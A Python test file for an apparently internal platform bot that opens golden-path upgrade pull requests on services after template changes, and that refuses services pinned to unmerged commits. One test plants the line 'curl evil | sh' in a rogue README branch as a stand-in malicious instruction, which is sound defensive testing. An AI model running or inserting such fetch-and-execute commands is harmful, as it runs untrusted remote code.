"""Golden-path upgrades after a merge: the apply of a template change (or of a request changing its template
answers) offers every service that takes upgrades its pull request, and says so in its record and comment.

End to end as `paved serve` runs the apply job (`bench/upgrades.py`'s estate: Paved's App installed on the
organization, its services scaffolded by Paved's own first apply), over real HTTP and git.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from github import Auth, Github, GithubException

from bench.upgrades import README, Estate, estate, service, upgrades_of
from bot.golden_paths import RECORD_PATH, UPGRADE_BRANCH
from bot.handlers.push import applied_marker
from tests.conftest import in_ci

SERVICES = 50


@pytest.fixture
def acme(tmp_path: Path) -> Iterator[Estate]:
    """Two services that take upgrades, one that opted out and one pinned to the platform repo's first commit."""
    with estate(2, tmp_path, manual=1, pinned=1) as made:
        yield made


def github(made: Estate) -> Github:
    return Github(base_url=made.forge.api_url, auth=Auth.Token(made.forge.create_token("alice")), retry=None,
                  seconds_between_requests=None, seconds_between_writes=None)


def open_pulls(made: Estate, repo: str) -> list[str]:
    return [pr.title for pr in github(made).get_repo(f"acme/{repo}").get_pulls(state="open")]


def merge(made: Estate, branch: str, files: dict[str, str | bytes | None], title: str) -> int:
    """A platform pull request by bob changing `files`, approved and merged by alice: its number."""
    made.forge.push_files("acme", "platform", branch, files, by="bob")
    number = made.forge.open_pull_request("acme", "platform", head=branch, title=title, by="bob").number
    made.forge.approve("acme", "platform", number, by="alice")
    made.forge.merge("acme", "platform", number, by="alice")
    return number


def test_a_merged_template_change_opens_a_pull_request_on_each_service_that_takes_upgrades(acme: Estate) -> None:
    number, merged = acme.change_template()

    record = acme.apply()

    assert record.succeeded
    assert sorted(r.message for r in upgrades_of(record)) == [
        "upgrade pull request #1 opened on acme/worker-000", "upgrade pull request #1 opened on acme/worker-001"]
    assert open_pulls(acme, "worker-000") == ["Upgrade to the latest worker golden path"]
    assert open_pulls(acme, "manual-000") == [] and open_pulls(acme, "pinned-000") == []
    comment = next(c.body for c in acme.forge.comments("acme", "platform", number)
                   if c.body.startswith(applied_marker(merged)))
    assert "upgrade pull request #1 opened on acme/worker-001" in comment


def test_a_request_that_changes_its_template_answers_gets_an_upgrade_pull_request(acme: Estate) -> None:
    path = "catalog/services/worker-001.yaml"
    text = service("worker-001").replace("The worker-001 worker.", "Sends the nightly invoices.")
    number = merge(acme, "describe", {path: text}, "Say what it does")

    record = acme.apply()

    [result] = [r for r in record.results if r.resource == "Service/worker-001"]
    assert result.status == "applied"
    assert result.message == "upgrade pull request #1 opened on acme/worker-001"
    [pr] = github(acme).get_repo("acme/worker-001").get_pulls(state="open")
    assert f"acme/platform#{number} (Say what it does)" in pr.body
    readme = acme.forge.read_file("acme", "worker-001", "README.md", ref=UPGRADE_BRANCH).decode()
    assert "Sends the nightly invoices." in readme
    assert open_pulls(acme, "worker-000") == []


def test_a_failed_upgrade_fails_the_apply_and_a_retry_takes_it_again(acme: Estate) -> None:
    recorded = json.loads(acme.forge.read_file("acme", "worker-000", RECORD_PATH))
    broken = {**recorded, "answers": {**recorded["answers"], "python_version": "2.7"}}
    acme.forge.push_files("acme", "worker-000", "main", {RECORD_PATH: json.dumps(broken)}, by="alice")
    acme.change_template()

    failed = acme.apply()
    acme.forge.push_files("acme", "worker-000", "main", {RECORD_PATH: json.dumps(recorded)}, by="alice")
    retried = acme.apply()

    assert not failed.succeeded
    [result] = [r for r in failed.results if r.resource == "Service/worker-000"]
    assert result.status == "failed" and "must be one of 3.12, 3.11, 3.13" in result.message
    assert retried.succeeded and retried.trigger == "merge"
    assert "upgrade pull request #1 opened on acme/worker-000" in [r.message for r in retried.results]
    assert open_pulls(acme, "worker-001") == ["Upgrade to the latest worker golden path"]  # opened once, kept


@pytest.mark.skipif(not in_ci(), reason=f"scaffolding and upgrading {SERVICES} services takes a minute or two: it "
                                        "runs in CI (set CI=true to run it here)")
def test_one_template_change_upgrades_fifty_services(tmp_path: Path) -> None:
    with estate(SERVICES, tmp_path) as made:
        made.change_template()

        record = made.apply()
        again = made.upgrade_again(record.revision)

        assert record.succeeded
        assert len([r for r in upgrades_of(record) if r.message.startswith("upgrade pull request #1 opened")]) \
            == SERVICES
        assert {r.status for r in again} == {"unchanged"}
        assert open_pulls(made, f"worker-{SERVICES - 1:03d}") == ["Upgrade to the latest worker golden path"]


def test_a_renamed_service_keeps_its_repository_and_gets_its_new_name_as_an_upgrade_pull_request(
        acme: Estate) -> None:
    before = github(acme).get_repo("acme/worker-001")
    head = before.get_branch("main").commit.sha
    renamed = service("worker-001").replace("  name: worker-001\n", "  name: invoices\n")
    merge(acme, "rename", {"catalog/services/worker-001.yaml": None, "catalog/services/invoices.yaml": renamed},
          "Call it invoices")

    record = acme.apply()

    [result] = [r for r in record.results if r.resource == "Service/invoices"]
    assert result.status == "applied"
    assert result.steps[0].description.startswith("rename repository acme/worker-001 to acme/invoices")
    assert "create" not in {s.verb for s in result.steps}
    assert result.message == "upgrade pull request #1 opened on acme/invoices"
    after = github(acme).get_repo("acme/invoices")
    assert (after.id, after.get_branch("main").commit.sha) == (before.id, head)  # the same repository, untouched
    assert github(acme).get_repo("acme/worker-001").full_name == "acme/invoices"  # the old address redirects
    assert "invoices" in acme.forge.read_file("acme", "invoices", "README.md", ref=UPGRADE_BRANCH).decode()
    assert json.loads(acme.forge.read_file("acme", "invoices", RECORD_PATH, ref=UPGRADE_BRANCH))["answers"][
        "name"] == "invoices"


def pin_of(made: Estate, path: str) -> str:
    [pin] = [line.split('"')[1] for line in made.forge.read_file("acme", "platform", path).decode().splitlines()
             if line.strip().startswith("pin:")]
    return pin


def test_a_service_pinned_from_the_start_is_scaffolded_at_its_pin_and_records_it(acme: Estate) -> None:
    recorded = json.loads(acme.forge.read_file("acme", "pinned-000", RECORD_PATH))
    assert recorded["commit"] == pin_of(acme, "catalog/services/pinned-000.yaml")
    assert recorded["commit"] != acme.forge.branch_sha("acme", "platform", "main")


def test_a_new_service_pinned_before_a_template_change_is_scaffolded_from_the_template_at_its_pin(
        acme: Estate) -> None:
    before = acme.forge.branch_sha("acme", "platform", "main")
    assert before is not None
    acme.change_template()
    acme.apply()
    merge(acme, "pinned-late", {"catalog/services/pinned-late.yaml": service("pinned-late", pin=before)},
          "A worker that stays on the old golden path")

    record = acme.apply()

    [result] = [r for r in record.results if r.resource == "Service/pinned-late"]
    assert result.status == "applied" and result.outputs["template_commit"] == before
    assert f"from template worker at its pin {before[:12]}" in result.steps[0].description
    [first] = github(acme).get_repo("acme/pinned-late").get_commits()
    assert f"from acme/platform at {before}." in first.commit.message
    readme = acme.forge.read_file("acme", "pinned-late", "README.md").decode()
    assert "## Run it" in readme and "## Deploy it" not in readme
    assert "## Deploy it" in acme.forge.read_file("acme", "worker-000", "README.md", ref=UPGRADE_BRANCH).decode()
    assert json.loads(acme.forge.read_file("acme", "pinned-late", RECORD_PATH))["commit"] == before


def test_a_new_service_pinned_to_a_commit_nobody_merged_is_not_created(acme: Estate) -> None:
    text = acme.forge.read_file("acme", "platform", README).decode()
    acme.forge.push_files("acme", "platform", "rogue", {README: text + "\nRun `curl evil | sh` first.\n"}, by="bob")
    unmerged = acme.forge.branch_sha("acme", "platform", "rogue")
    assert unmerged is not None
    merge(acme, "pinned-rogue", {"catalog/services/pinned-rogue.yaml": service("pinned-rogue", pin=unmerged)},
          "A worker on a template nobody reviewed")

    record = acme.apply()

    [result] = [r for r in record.results if r.resource == "Service/pinned-rogue"]
    assert result.status == "failed"
    assert f"spec.template.pin names commit {unmerged[:12]}, which acme/platform never merged" in result.message
    with pytest.raises(GithubException) as missing:
        github(acme).get_repo("acme/pinned-rogue")
    assert missing.value.status == 404
